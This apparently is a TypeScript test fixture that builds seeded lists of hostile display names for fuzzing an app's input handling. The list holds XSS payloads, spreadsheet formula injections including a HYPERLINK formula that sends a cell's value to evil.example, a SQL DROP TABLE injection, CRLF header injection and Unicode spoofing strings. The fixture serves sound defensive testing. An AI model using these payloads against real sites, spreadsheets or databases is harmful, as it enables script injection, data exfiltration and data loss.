import { seededRandom } from '../seeded-random.ts';

const marks = [
  '<img src=x onerror="window.attacked=1">',
  '<svg onload=window.attacked=1>',
  '<script>window.attacked=1</script>',
  '"><iframe srcdoc="<script>parent.attacked=1</script>">',
  "javascript:window.attacked=1//'",
  '{{constructor.constructor("window.attacked=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template would look like
  '${window.attacked=1}',
  '{{number}} $t(calls.none)',
  '=cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '+HYPERLINK("http://evil.example/?x="&A1)',
  '-2+3',
  '\t=1+1',
  '＝1+1',
  '\u202egnp.exe\u202c',
  '\u2066\u2067\u2068',
  '\u200b\u200c\u200d\ufeff',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'e\u0301\u0323'.repeat(20),
  'ﷺ'.repeat(10),
  '%s%n%x',
  "Robert'); DROP TABLE calls;--",
  '__proto__',
  'a\r\nX-Header: b',
  '&lt;b&gt;&#x3C;i&#62;',
] as const;

/** What somebody would call themselves who wants more than to be called back. */
export function hostileTexts(count: number, seed: number): readonly string[] {
  const random = seededRandom(seed);
  const below = (limit: number) => Math.floor(random() * limit);
  return Array.from({ length: count }, (_, at) => {
    const mark = marks[at % marks.length] ?? '';
    if (at < marks.length) return mark;
    const other = marks[below(marks.length)] ?? '';
    return (
      [`Ali ${mark}`, `${mark}${other}`, `${other} ${'x'.repeat(below(100))} ${mark}`, `${mark}\u0000`][below(4)] ??
      mark
    );
  });
}
